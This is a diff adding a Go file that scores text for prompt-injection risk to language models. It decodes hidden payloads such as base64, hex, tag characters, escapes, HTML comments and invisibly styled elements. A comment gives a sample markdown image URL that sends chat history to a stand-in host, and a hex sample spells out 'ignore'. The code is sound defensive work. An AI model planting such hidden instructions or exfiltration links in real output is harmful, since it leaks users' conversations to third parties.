@@ -1,0 +1,272 @@
+package guard
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"html"
+	"net/url"
+	"strings"
+	"unicode/utf8"
+)
+
+// injectionScore folds t, matches the rules and combines the signals. At
+// depth 0 it also decodes what may hide a payload (base64, hex, tag
+// characters, HTML/percent escapes, comments) and scores that once more.
+func (g *Guard) injectionScore(t string, sc *scratch, depth int) float64 {
+	f, st := &sc.fold, &sc.inj
+	if depth > 0 {
+		f, st = &sc.innerFold, &sc.innerInj
+	}
+	f.normalize(t, g.ft)
+	st.signal = [numKinds]float64{}
+	st.obfHit = false
+	g.scanWords(f.fold, st)
+	matchRules(st)
+	if f.cjk {
+		cjkSignals(f.fold, st)
+	}
+	obf := 0.0
+	switch {
+	case f.invisible >= 3:
+		obf = 0.25
+	case f.invisible > 0:
+		obf = 0.15
+	}
+	if f.mixed > 0 {
+		obf = max(obf, 0.25)
+	}
+	if st.obfHit {
+		obf = max(obf, 0.3)
+	}
+	st.signal[kObfuscation] = obf
+	lt, lb := strings.IndexByte(t, '<') >= 0, strings.IndexByte(t, '[') >= 0
+	if lt || lb {
+		st.signal[kTemplate] = templateSignal(t)
+	}
+	if lb && strings.Contains(t, "![") {
+		st.signal[kHidden] = max(st.signal[kHidden], imageExfil(t))
+	}
+	if depth == 0 {
+		// These reuse the inner scratch, so copy what the outer scan needs.
+		signals := st.signal
+		tags := f.tags
+		if len(tags) > 0 {
+			// Tag characters carry text no reader can see: suspicious
+			// alone, and whatever they say is scored too.
+			inner := g.injectionScore(string(tags), sc, 1)
+			signals[kHidden] = max(signals[kHidden], min(1, 0.5+inner))
+		}
+		if lt || lb {
+			signals[kHidden] = max(signals[kHidden], g.hiddenScore(t, sc, lt))
+		}
+		signals[kEncoded] = max(signals[kEncoded], g.encodedScore(t, sc))
+		st.signal = signals
+	}
+	return combine(&st.signal)
+}
+
+// combine is a noisy-OR: independent signals raise the score, none alone
+// needs to be certain.
+func combine(sig *[numKinds]float64) float64 {
+	p := 1.0
+	for _, x := range sig {
+		p *= 1 - x
+	}
+	return 1 - p
+}
+
+// hiddenScore scores text that a human reader of rendered markdown or HTML
+// would not see: comments and invisibly styled elements. Instructions there
+// are planted on purpose.
+func (g *Guard) hiddenScore(t string, sc *scratch, html bool) float64 {
+	best := 0.0
+	scan := func(body string) {
+		inner := g.injectionScore(body, sc, 1)
+		if inner >= 0.3 {
+			best = max(best, min(1, inner+0.25))
+		} else if g.addressesModel(&sc.innerInj) {
+			best = max(best, 0.45)
+		}
+	}
+	for off := 0; html && off < len(t); {
+		k := strings.Index(t[off:], "<!--")
+		if k < 0 {
+			break
+		}
+		a := off + k + 4
+		e := strings.Index(t[a:], "-->")
+		b := len(t)
+		if e >= 0 {
+			b = a + e
+		}
+		scan(t[a:b])
+		off = b
+	}
+	for off := 0; off < len(t); {
+		k := strings.Index(t[off:], "]: #")
+		if k < 0 {
+			break
+		}
+		a := off + k + 4
+		b := strings.IndexByte(t[a:], '\n')
+		if b < 0 {
+			b = len(t) - a
+		}
+		scan(t[a : a+b])
+		off = a + b
+	}
+	if html && strings.Contains(t, "style=") && (strings.Contains(t, "display:none") || strings.Contains(t, "display: none") || strings.Contains(t, "font-size:0") || strings.Contains(t, "opacity:0") || strings.Contains(t, "color:white") || strings.Contains(t, "color:#fff")) {
+		if k := strings.Index(t, "style="); k >= 0 {
+			scan(t[k:min(len(t), k+600)])
+		}
+	}
+	return best
+}
+
+// addressesModel: hidden text that speaks to the model or gives orders.
+func (g *Guard) addressesModel(st *injState) bool {
+	for _, h := range st.hits {
+		if h.groups&(gAI|gOverride|gReveal|gExecute|gTask) != 0 {
+			return true
+		}
+	}
+	return false
+}
+
+// encodedScore decodes base64 and hex runs and HTML/percent escapes and
+// scores the decoded text. Encoding an instruction is itself a signal, so a
+// decoded attack scores above its plain form.
+func (g *Guard) encodedScore(t string, sc *scratch) float64 {
+	best := 0.0
+	consider := func(dec []byte) {
+		if !readable(dec) {
+			return
+		}
+		inner := g.injectionScore(string(dec), sc, 1)
+		if inner >= 0.3 {
+			best = max(best, min(1, inner+0.2))
+		}
+	}
+	for _, r := range sc.raw.encoded {
+		tok := t[r[0]:r[1]]
+		if isHexRun(tok) {
+			n := len(tok) / 2
+			sc.dec = grow(sc.dec, n)
+			if _, err := hex.Decode(sc.dec, []byte(tok)); err == nil {
+				consider(sc.dec)
+			}
+			continue
+		}
+		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding, base64.RawURLEncoding} {
+			sc.dec = grow(sc.dec, enc.DecodedLen(len(tok)))
+			if n, err := enc.Decode(sc.dec, []byte(tok)); err == nil {
+				consider(sc.dec[:n])
+				break
+			}
+		}
+	}
+	if strings.IndexByte(t, '&') >= 0 && (strings.Contains(t, "&#") || strings.Contains(t, "&lt;")) {
+		if u := html.UnescapeString(t); u != t {
+			consider([]byte(u))
+		}
+	}
+	if strings.IndexByte(t, '%') >= 0 && strings.Count(t, "%") >= 6 {
+		if u, err := url.PathUnescape(t); err == nil && u != t {
+			consider([]byte(u))
+		}
+	}
+	if sc.raw.hexPairs < 8 {
+		return best
+	}
+	if hx := spacedHex(t); hx != nil {
+		consider(hx)
+	}
+	return best
+}
+
+func grow(b []byte, n int) []byte {
+	if cap(b) < n {
+		return make([]byte, n)
+	}
+	return b[:n]
+}
+
+// readable: decoded bytes that are text (UTF-8, mostly printable, with a
+// space), not binary or a JSON header.
+func readable(b []byte) bool {
+	if len(b) < 8 || !utf8.Valid(b) {
+		return false
+	}
+	printable, spaces := 0, 0
+	for _, c := range b {
+		if c >= 0x20 && c < 0x7F || c >= 0x80 {
+			printable++
+		}
+		if c == ' ' {
+			spaces++
+		}
+	}
+	return printable*10 >= len(b)*9 && spaces > 0
+}
+
+// spacedHex decodes "69 67 6e 6f 72 65 …" and "\x69\x67…" runs of at least
+// eight bytes.
+func spacedHex(t string) []byte {
+	var out []byte
+	run := 0
+	for i := 0; i+1 < len(t); {
+		if (i == 0 || t[i-1] == ' ' || t[i-1] == 'x' || t[i-1] == ',') && isHex(t[i]) && isHex(t[i+1]) && (i+2 == len(t) || t[i+2] == ' ' || t[i+2] == '\\' || t[i+2] == ',') {
+			if h, err := hex.DecodeString(t[i : i+2]); err == nil {
+				out = append(out, h[0])
+				run++
+			}
+			i += 2
+			continue
+		}
+		if t[i] == ' ' || t[i] == '\\' || t[i] == 'x' || t[i] == ',' {
+			i++
+			continue
+		}
+		if run < 8 {
+			out, run = out[:0], 0
+		} else {
+			break
+		}
+		i++
+	}
+	if run < 8 {
+		return nil
+	}
+	return out
+}
+
+// imageExfil: a markdown image whose URL carries a template or the
+// conversation ("![](https://x.example/log?q={chat_history})") makes the
+// client's renderer send data out when the answer is displayed.
+func imageExfil(t string) float64 {
+	for off := 0; off < len(t); {
+		k := strings.Index(t[off:], "![")
+		if k < 0 {
+			return 0
+		}
+		k += off
+		u := strings.Index(t[k:min(len(t), k+200)], "](http")
+		if u < 0 {
+			off = k + 2
+			continue
+		}
+		start := k + u + 2
+		end := start
+		for end < len(t) && end-start < 400 && t[end] != ')' && t[end] != ' ' && t[end] != '\n' {
+			end++
+		}
+		url := strings.ToLower(t[start:end])
+		if strings.IndexByte(url, '?') >= 0 && (strings.ContainsAny(url, "{$") || strings.Contains(url, "%7b") ||
+			strings.Contains(url, "conversation") || strings.Contains(url, "history") || strings.Contains(url, "secret") ||
+			strings.Contains(url, "password") || strings.Contains(url, "prompt") || strings.Contains(url, "data=")) {
+			return 0.6
+		}
+		off = end
+	}
+	return 0
+}
